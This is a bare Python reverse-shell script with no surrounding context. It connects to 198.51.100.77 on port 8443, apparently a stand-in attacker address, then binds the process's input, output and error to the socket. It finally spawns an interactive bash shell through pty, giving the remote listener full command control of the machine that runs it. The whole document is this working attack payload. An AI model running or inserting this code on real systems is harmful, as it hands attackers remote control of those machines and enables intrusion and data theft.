import os, pty, socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.77", 8443))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
